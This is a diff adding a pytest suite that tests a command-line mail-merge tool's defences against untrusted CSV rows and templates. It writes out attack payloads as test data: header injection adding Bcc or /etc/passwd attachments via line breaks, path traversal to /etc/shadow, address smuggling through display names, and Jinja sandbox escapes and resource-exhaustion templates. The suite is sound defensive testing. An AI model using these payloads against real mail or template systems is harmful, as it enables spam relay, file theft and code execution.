@@ -1,0 +1,351 @@
+"""Rows are untrusted input: every attack of issue 7, tried through check, the dry run and a real send.
+
+Each test writes a template and a recipients file, runs the commands as a user would, and
+asserts on what the SMTP server received.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from mailblast.cli import app
+from tests.servers import SmtpServer
+
+Server = Callable[..., SmtpServer]
+VICTIM = "victim@example.com"
+
+
+def run(cwd: Path, *args: str | Path, env: dict[str, str] | None = None) -> tuple[int, str]:
+    old = Path.cwd()
+    os.chdir(cwd)
+    try:
+        result = CliRunner().invoke(app, [str(a) for a in args], env=env, catch_exceptions=False)
+    finally:
+        os.chdir(old)
+    return result.exit_code, result.output
+
+
+def campaign(tmp_path: Path, template: str, rows: list[dict[str, str]], name: str = "t.txt") -> None:
+    (tmp_path / name).write_text(template, encoding="utf-8")
+    with (tmp_path / "people.csv").open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def assert_refused(tmp_path: Path, server: SmtpServer, *words: str, extra: tuple[str, ...] = ()) -> str:
+    """check, the dry run and send all refuse row 1 with one line holding ``words``; nothing sent."""
+    base = ("people.csv", "-t", "t.txt", *extra)
+    code, out = run(tmp_path, "check", *base)
+    assert code == 2, out
+    lines = [line for line in out.splitlines() if line.startswith("error:")]
+    assert len(lines) == 1, out
+    assert "row 1 (line 2)" in lines[0], out
+    for word in words:
+        assert word in lines[0], (word, out)
+    code, out = run(tmp_path, "send", *base, "--dry-run", "--out", "outbox")
+    assert code == 2, out
+    assert not list((tmp_path / "outbox").glob("*.eml"))
+    code, out = run(tmp_path, "send", *base, "--smtp", server.url, "--no-journal")
+    assert code == 2, out
+    assert server.received == []
+    return lines[0]
+
+
+def sent(tmp_path: Path, server: SmtpServer, *extra: str, report: str | None = None) -> tuple[int, str]:
+    """check passes; then send, with ``report`` as --report."""
+    code, out = run(tmp_path, "check", "people.csv", "-t", "t.txt", *extra)
+    assert code == 0, out
+    more = ("--report", report) if report else ()
+    return run(
+        tmp_path, "send", "people.csv", "-t", "t.txt", "--smtp", server.url, "--no-journal", *extra, *more
+    )
+
+
+# 1. line breaks of every kind, NUL and other controls, in any header -----------------------------
+
+
+@pytest.mark.parametrize("brk", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r", "\n"])
+@pytest.mark.parametrize("header", ["Subject: Hello {{ name }}", "X-Campaign: {{ name }}"])
+def test_no_line_break_of_any_kind_reaches_a_header(
+    tmp_path: Path, smtp_server: Server, brk: str, header: str
+) -> None:
+    name = f"Hi{brk}Attachment: /etc/passwd{brk}Bcc: attacker@evil.com"
+    campaign(tmp_path, f"From: a@example.com\n{header}\n\nbody\n", [{"email": VICTIM, "name": name}])
+    line = assert_refused(tmp_path, smtp_server(), 'column "name"', "line break would reach a header")
+    assert f"U+{ord(brk):04X}" in line
+
+
+def test_nul_and_controls_are_refused(tmp_path: Path, smtp_server: Server) -> None:  # 5
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: Hello {{ name }}\n\nbody\n",
+        [{"email": VICTIM, "name": "Al\x00ice"}],
+    )
+    assert_refused(tmp_path, smtp_server(), 'column "name"', "control character", "U+0000")
+
+
+def test_tab_and_unicode_are_data(tmp_path: Path, smtp_server: Server) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: Hello {{ name }}\n\nbody\n",
+        [{"email": VICTIM, "name": "Zoë\tÅgren 🎉"}],
+    )
+    server = smtp_server()
+    code, out = sent(tmp_path, server)
+    assert code == 0, out
+    assert server.received[0].message["Subject"] == "Hello Zoë\tÅgren 🎉"
+
+
+def test_a_value_cannot_name_a_header(tmp_path: Path, smtp_server: Server) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\n{{ kind }}: attacker@evil.com\n\nbody\n",
+        [{"email": VICTIM, "kind": "Bcc"}],
+    )
+    assert_refused(tmp_path, smtp_server(), 'column "kind"', "header's name")
+
+
+# 2. attachments stay inside their folder ----------------------------------------------------------
+
+
+@pytest.fixture
+def invoices(tmp_path: Path) -> Path:
+    folder = tmp_path / "invoices"
+    folder.mkdir()
+    (folder / "a.pdf").write_bytes(b"%PDF-1.4 invoice")
+    (tmp_path / "secret.txt").write_text("top secret")
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [
+        ("../../../../etc/shadow", "'..' is refused"),
+        ("../secret.txt", "'..' is refused"),
+        ("/etc/passwd", "not found"),  # invoices//etc/passwd: inside, and not there
+        ("out", "leads outside"),  # a symlink out of the folder
+        ("sub", "is a folder"),
+        ("", "is a folder"),  # "invoices/" itself
+        ("fifo", "not a regular file"),
+        ("missing.pdf", "not found"),
+    ],
+)
+def test_attachment_paths_stay_inside(
+    tmp_path: Path, smtp_server: Server, invoices: Path, value: str, words: str
+) -> None:
+    outside = tmp_path.parent / f"{tmp_path.name}-secret.txt"
+    outside.write_text("top secret")
+    (invoices / "out").symlink_to(outside)
+    (invoices / "sub").mkdir()
+    os.mkfifo(invoices / "fifo")
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nAttachment: invoices/{{ f }}\n\nbody\n",
+        [{"email": VICTIM, "f": value}],
+    )
+    assert_refused(tmp_path, smtp_server(), words, *(('column "f"',) if value else ()))
+
+
+def test_absolute_rendered_path_is_refused(tmp_path: Path, smtp_server: Server) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nAttachment: {{ f }}\n\nbody\n",
+        [{"email": VICTIM, "f": str(tmp_path / "t.txt")}],
+    )
+    assert_refused(tmp_path, smtp_server(), 'column "f"', "absolute path is refused")
+
+
+def test_attachments_over_the_size_limit(tmp_path: Path, smtp_server: Server, invoices: Path) -> None:
+    (invoices / "big.bin").write_bytes(b"x" * 1_500_000)
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nAttachment: invoices/{{ f }}\n\nbody\n",
+        [{"email": VICTIM, "f": "big.bin"}],
+    )
+    assert_refused(tmp_path, smtp_server(), "over the limit of 1 MB", extra=("--attachments-max-mb", "1"))
+    server = smtp_server()
+    code, out = sent(tmp_path, server)  # the default limit is 10 MB
+    assert code == 0, out
+    assert [p.get_filename() for p in server.received[0].message.iter_attachments()] == ["big.bin"]
+
+
+def test_attachments_dir_is_the_root(tmp_path: Path, smtp_server: Server, invoices: Path) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nAttachment: {{ f }}\n\nbody\n",
+        [{"email": VICTIM, "f": "a.pdf"}],
+    )
+    server = smtp_server()
+    code, out = sent(tmp_path, server, "--attachments-dir", "invoices")
+    assert code == 0, out
+    (part,) = server.received[0].message.iter_attachments()
+    assert part.get_filename() == "a.pdf" and part.get_content() == b"%PDF-1.4 invoice"
+    (tmp_path / "people.csv").write_text(f"email,f\n{VICTIM},../t.txt\n")
+    code, out = run(tmp_path, "check", "people.csv", "-t", "t.txt", "--attachments-dir", "invoices")
+    assert code == 2 and "'..' is refused" in out
+
+
+# 3. a name cannot add an address ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name", ["attacker2@evil.com, Bob", "Bob <attacker3@evil.com>, Real", "x@evil.com ("]
+)
+def test_raw_name_in_an_address_header_cannot_add_an_address(
+    tmp_path: Path, smtp_server: Server, name: str
+) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nTo: {{ name }} <{{ email }}>\nSubject: s\n\nbody\n",
+        [{"email": VICTIM, "name": name}],
+    )
+    assert_refused(
+        tmp_path, smtp_server(), 'column "name"', "would change the addresses", "mailbox(name, email)"
+    )
+
+
+@pytest.mark.parametrize(
+    "name", ["attacker2@evil.com, Bob", "Bob <attacker3@evil.com>, Real", 'Al "Bo" \\ Cy']
+)
+def test_mailbox_keeps_the_name_as_data(tmp_path: Path, smtp_server: Server, name: str) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nTo: {{ mailbox(name, email) }}\nSubject: s\n\nbody\n",
+        [{"email": VICTIM, "name": name}],
+    )
+    server = smtp_server()
+    code, out = sent(tmp_path, server)
+    assert code == 0, out
+    (received,) = server.received
+    assert received.rcpt_tos == [VICTIM]
+    (address,) = received.message["To"].addresses
+    assert (address.display_name, address.addr_spec) == (name, VICTIM)
+
+
+def test_a_lone_value_is_one_address(tmp_path: Path, smtp_server: Server) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nCc: {{ manager }}\n\nbody\n",
+        [{"email": VICTIM, "manager": "boss@example.com, attacker@evil.com"}],
+    )
+    assert_refused(tmp_path, smtp_server(), 'column "manager"', "holds 2 addresses")
+
+
+# 4. delivery to the row's own address is what counts ------------------------------------------------
+
+
+def test_refused_own_address_fails_the_row_whatever_cc_got(tmp_path: Path, smtp_server: Server) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nCc: {{ manager }}\nBcc: audit@example.com\n\nbody\n",
+        [
+            {"email": VICTIM, "manager": "boss@example.com"},
+            {"email": "ok@example.com", "manager": "gone@example.com"},
+        ],
+    )
+    server = smtp_server(reject_recipients={VICTIM, "gone@example.com"})
+    code, out = sent(tmp_path, server, report="failed.csv")
+    assert code == 1, out
+    # the row's own address was refused: nobody got the message, not even the accepted Cc
+    assert [r.rcpt_tos for r in server.received] == [["ok@example.com", "audit@example.com"]]
+    rows = list(csv.DictReader((tmp_path / "failed.csv").open(encoding="utf-8")))
+    assert [(r["email"], r["status"], r["smtp_code"]) for r in rows] == [(VICTIM, "failed", "550")]
+    assert VICTIM in rows[0]["error"]
+
+
+def test_refused_copies_are_listed_on_the_failed_row(tmp_path: Path, smtp_server: Server) -> None:
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\nCc: {{ manager }}\n\nbody\n",
+        [
+            {"email": VICTIM, "manager": "gone@example.com"},
+        ],
+    )
+    server = smtp_server(reject_recipients={VICTIM, "gone@example.com"})
+    code, out = sent(tmp_path, server, report="failed.csv")
+    assert code == 1, out
+    assert server.received == []
+    (row,) = csv.DictReader((tmp_path / "failed.csv").open(encoding="utf-8"))
+    assert "gone@example.com" in row["error"] and VICTIM in row["error"]
+
+
+# 6. {{ email }} and row are what they say ----------------------------------------------------------
+
+
+def test_email_is_the_rows_address_and_row_the_row(tmp_path: Path, smtp_server: Server) -> None:
+    template = (
+        "From: a@example.com\nTo: {{ email }}\nSubject: {{ row['email'] }} / {{ row['row'] }} / "
+        "{{ row | length }}\n\nbody\n"
+    )
+    campaign(tmp_path, template, [{"mail": VICTIM, "email": "other@evil.com", "row": "R"}])
+    server = smtp_server()
+    code, out = run(tmp_path, "check", "people.csv", "-t", "t.txt", "--email-column", "mail")
+    assert code == 0, out
+    warnings = [line for line in out.splitlines() if line.startswith("warning:")]
+    assert len(warnings) == 2, out
+    assert 'column "email"' in warnings[0] and 'row["email"]' in warnings[0]
+    assert 'column "row"' in warnings[1] and 'row["row"]' in warnings[1]
+    code, out = run(
+        tmp_path,
+        "send",
+        "people.csv",
+        "-t",
+        "t.txt",
+        "--email-column",
+        "mail",
+        "--smtp",
+        server.url,
+        "--no-journal",
+    )
+    assert code == 0, out
+    (received,) = server.received
+    assert received.rcpt_tos == [VICTIM]
+    assert received.message["To"] == VICTIM
+    assert received.message["Subject"] == "other@evil.com / R / 3"
+
+
+# 10. templates from someone else --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("expression", "words"),
+    [
+        ("{{ cycler.__init__.__globals__.os.getcwd() }}", "unsafe"),
+        ("{% for i in range(10**9) %}x{% endfor %}", "Range too big"),
+        ("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}", "more than 5 s"),
+        ("{% for i in range(99999) %}{{ 'x' * 999 }}{% endfor %}", "more than 10,000,000 characters"),
+        ("{{ 'x' * 10**9 }}", "larger than the sandbox allows"),
+        ("{{ 'x' | center(10**9) }}", "larger than the sandbox allows"),
+        ("{{ 'x'.ljust(10**9) }}", "larger than the sandbox allows"),
+        ("{% include 'evil.txt' %}", "outside the template's folder"),
+        ("{% import 'evil.txt' as e %}", "outside the template's folder"),
+    ],
+)
+def test_the_template_is_sandboxed(tmp_path: Path, smtp_server: Server, expression: str, words: str) -> None:
+    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
+    outside.write_text("secret from outside")
+    (tmp_path / "evil.txt").symlink_to(outside)
+    campaign(tmp_path, f"From: a@example.com\nSubject: s\n\n{expression}\n", [{"email": VICTIM}])
+    assert_refused(tmp_path, smtp_server(), words)
+
+
+def test_includes_inside_the_folder_work(tmp_path: Path, smtp_server: Server) -> None:
+    (tmp_path / "parts").mkdir()
+    (tmp_path / "parts" / "footer.txt").write_text("-- the team {{ name }}")
+    (tmp_path / "footer.txt").symlink_to(tmp_path / "parts" / "footer.txt")  # a symlink that stays inside
+    campaign(
+        tmp_path,
+        "From: a@example.com\nSubject: s\n\nHi\n{% include 'footer.txt' %}\n",
+        [{"email": VICTIM, "name": "Ann"}],
+    )
+    server = smtp_server()
+    code, out = sent(tmp_path, server)
+    assert code == 0, out
+    assert "-- the team Ann" in server.received[0].message.get_content()
